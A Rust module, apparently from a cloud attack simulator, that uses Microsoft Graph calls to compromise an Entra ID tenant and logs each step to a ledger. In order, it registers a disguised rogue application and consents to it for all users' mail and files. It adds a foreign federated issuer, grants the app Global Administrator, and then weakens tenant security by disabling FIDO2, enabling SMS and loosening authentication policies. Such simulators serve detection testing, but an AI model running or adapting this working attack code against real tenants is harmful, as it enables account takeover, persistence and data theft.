//! Strikes beyond the six types: consent, app roles, federated credentials, directory roles and
//! the tenant-wide policies.

use serde_json::{Value, json};

use super::{AttackError, DeedKind, Intruder, has, id, name};

const GLOBAL_ADMINISTRATOR: &str = "62e90394-69f5-4237-9190-012177145e10";
const STRENGTHS: &str = "/policies/authenticationStrengthPolicies";
const CONTEXTS: &str = "/identity/conditionalAccess/authenticationContextClassReferences";
const METHODS: &str = "/policies/authenticationMethodsPolicy";

pub(super) async fn strike(intruder: &mut Intruder) -> Result<(), AttackError> {
    let graph = intruder
        .client
        .find("/servicePrincipals(appId='00000003-0000-0000-c000-000000000000')")
        .await?;
    let rogue = foothold(intruder).await?;
    if let Some(graph) = graph {
        consent(intruder, &rogue, &graph).await?;
        app_role(intruder, &rogue, &graph).await?;
    }
    federate(intruder).await?;
    promote(intruder, &rogue).await?;
    weaken_methods(intruder).await?;
    open_the_tenant(intruder).await?;
    weaken_strength(intruder).await?;
    unpublish(intruder).await
}

/// An application of the intruder's own with its service principal.
async fn foothold(intruder: &mut Intruder) -> Result<Value, AttackError> {
    let body = json!({ "displayName": "Tenant Insights", "signInAudience": "AzureADMyOrg" });
    let application = intruder.client.create("/applications", &body).await?;
    let sentence = "registered an application to hold stolen permissions";
    intruder
        .ledger
        .note("application", &application, DeedKind::Added, &[], sentence);
    let body = json!({ "appId": application["appId"] });
    let principal = intruder.client.create("/servicePrincipals", &body).await?;
    let sentence = "gave it a service principal";
    intruder.ledger.note(
        "servicePrincipal",
        &principal,
        DeedKind::Added,
        &[],
        sentence,
    );
    Ok(principal)
}

/// Consents for everybody, and widens a consent that is there.
async fn consent(intruder: &mut Intruder, rogue: &Value, graph: &Value) -> Result<(), AttackError> {
    let body = json!({
        "clientId": id(rogue), "consentType": "AllPrincipals", "principalId": null,
        "resourceId": id(graph), "scope": "Mail.ReadWrite Files.ReadWrite.All offline_access",
    });
    let grants = intruder.client.list("/oauth2PermissionGrants", 1).await?;
    let made = intruder
        .client
        .create("/oauth2PermissionGrants", &body)
        .await?;
    let sentence = format!("consented to {} for the whole tenant", name(rogue));
    intruder.ledger.note(
        "oAuth2PermissionGrant",
        &made,
        DeedKind::Added,
        &[],
        &sentence,
    );
    let Some(grant) = intruder.pick(&grants, |grant| grant["consentType"] == "AllPrincipals")
    else {
        return Ok(());
    };
    let scope = format!("{} Mail.Send", grant["scope"].as_str().unwrap_or_default());
    let path = format!("/oauth2PermissionGrants/{}", id(&grant));
    intruder
        .client
        .change(&path, &json!({ "scope": scope }))
        .await?;
    let sentence = "widened a consent that was there";
    intruder.ledger.note(
        "oAuth2PermissionGrant",
        &grant,
        DeedKind::Modified,
        &["scope"],
        sentence,
    );
    Ok(())
}

async fn app_role(
    intruder: &mut Intruder,
    rogue: &Value,
    graph: &Value,
) -> Result<(), AttackError> {
    let Some(role) = graph["appRoles"].as_array().and_then(|roles| roles.last()) else {
        return Ok(());
    };
    let body = json!({
        "principalId": id(rogue), "resourceId": id(graph), "appRoleId": role["id"],
    });
    let path = format!("/servicePrincipals/{}/appRoleAssignedTo", id(graph));
    let made = intruder.client.create(&path, &body).await?;
    let sentence = format!(
        "assigned {} the application permission {}",
        name(rogue),
        role["value"].as_str().unwrap_or_default()
    );
    intruder
        .ledger
        .note("appRoleAssignment", &made, DeedKind::Added, &[], &sentence);
    Ok(())
}

/// Lets a foreign issuer sign in as an application of the company.
async fn federate(intruder: &mut Intruder) -> Result<(), AttackError> {
    let path = "/applications?$select=id,displayName&$expand=federatedIdentityCredentials";
    let applications = intruder.client.list(path, 1).await?;
    let room = |application: &Value| {
        application["federatedIdentityCredentials"]
            .as_array()
            .is_none_or(|held| held.len() < 20)
            && name(application) != "Tenant Insights"
    };
    let Some(application) = intruder.pick(&applications, room) else {
        return Ok(());
    };
    let path = format!(
        "/applications/{}/federatedIdentityCredentials",
        id(&application)
    );
    let body = json!({
        "name": "nightly-sync", "issuer": "https://issuer.dropbox.example",
        "subject": "collector", "description": null,
        "audiences": ["api://AzureADTokenExchange"],
    });
    let made = intruder.client.create(&path, &body).await?;
    let sentence = format!(
        "let a foreign issuer sign in as the application {}",
        name(&application)
    );
    intruder.ledger.note(
        "federatedIdentityCredential",
        &made,
        DeedKind::Added,
        &[],
        &sentence,
    );
    Ok(())
}

async fn promote(intruder: &mut Intruder, rogue: &Value) -> Result<(), AttackError> {
    let body = json!({
        "roleDefinitionId": GLOBAL_ADMINISTRATOR, "principalId": id(rogue), "directoryScopeId": "/",
    });
    let path = "/roleManagement/directory/roleAssignments";
    let made = intruder.client.create(path, &body).await?;
    let sentence = format!("made {} a Global Administrator", name(rogue));
    intruder.ledger.note(
        "unifiedRoleAssignment",
        &made,
        DeedKind::Added,
        &[],
        &sentence,
    );
    Ok(())
}

async fn weaken_methods(intruder: &mut Intruder) -> Result<(), AttackError> {
    let Some(policy) = intruder.client.find(METHODS).await? else {
        return Ok(());
    };
    let held = policy["authenticationMethodConfigurations"].as_array();
    let is_there = |method: &str| {
        let mut held = held.into_iter().flatten();
        held.any(|one| id(one).eq_ignore_ascii_case(method))
    };
    for (method, state) in [("fido2", "disabled"), ("sms", "enabled")] {
        if !is_there(method) {
            continue;
        }
        let body = json!({
            "@odata.type": format!("#microsoft.graph.{method}AuthenticationMethodConfiguration"),
            "state": state,
        });
        let path = format!("{METHODS}/authenticationMethodConfigurations/{method}");
        intruder.client.change(&path, &body).await?;
        intruder.ledger.note(
            "authenticationMethodsPolicy",
            &policy,
            DeedKind::Modified,
            &["authenticationMethodConfigurations"],
            &format!("set the authentication method {method} to {state}"),
        );
    }
    Ok(())
}

async fn open_the_tenant(intruder: &mut Intruder) -> Result<(), AttackError> {
    let path = "/policies/authorizationPolicy";
    let Some(policy) = intruder.client.find(path).await? else {
        return Ok(());
    };
    let body = json!({
        "allowInvitesFrom": "everyone",
        "defaultUserRolePermissions": { "allowedToCreateApps": true },
    });
    intruder.client.change(path, &body).await?;
    let sentence = "let everyone invite guests and register applications";
    intruder.ledger.note(
        "authorizationPolicy",
        &policy,
        DeedKind::Modified,
        &["allowInvitesFrom", "defaultUserRolePermissions"],
        sentence,
    );
    Ok(())
}

async fn weaken_strength(intruder: &mut Intruder) -> Result<(), AttackError> {
    let strengths = intruder.client.list(STRENGTHS, 1).await?;
    let strict = |strength: &Value| {
        strength["policyType"] == "custom" && !has(&strength["allowedCombinations"], "password,sms")
    };
    let Some(strength) = intruder.pick(&strengths, strict) else {
        return Ok(());
    };
    let mut combinations = strength["allowedCombinations"]
        .as_array()
        .cloned()
        .unwrap_or_default();
    combinations.push("password,sms".into());
    let path = format!("{STRENGTHS}/{}/updateAllowedCombinations", id(&strength));
    let body = json!({ "allowedCombinations": combinations });
    intruder.client.create(&path, &body).await?;
    let sentence = format!("let a text message satisfy {}", name(&strength));
    intruder.ledger.note(
        "authenticationStrengthPolicy",
        &strength,
        DeedKind::Modified,
        &["allowedCombinations"],
        &sentence,
    );
    Ok(())
}

async fn unpublish(intruder: &mut Intruder) -> Result<(), AttackError> {
    let contexts = intruder.client.list(CONTEXTS, 1).await?;
    let Some(context) = intruder.pick(&contexts, |context| context["isAvailable"] == true) else {
        return Ok(());
    };
    let path = format!("{CONTEXTS}/{}", id(&context));
    let body = json!({ "isAvailable": false });
    intruder.client.change(&path, &body).await?;
    let sentence = format!("unpublished the context {}", name(&context));
    intruder.ledger.note(
        "authenticationContextClassReference",
        &context,
        DeedKind::Modified,
        &["isAvailable"],
        &sentence,
    );
    Ok(())
}
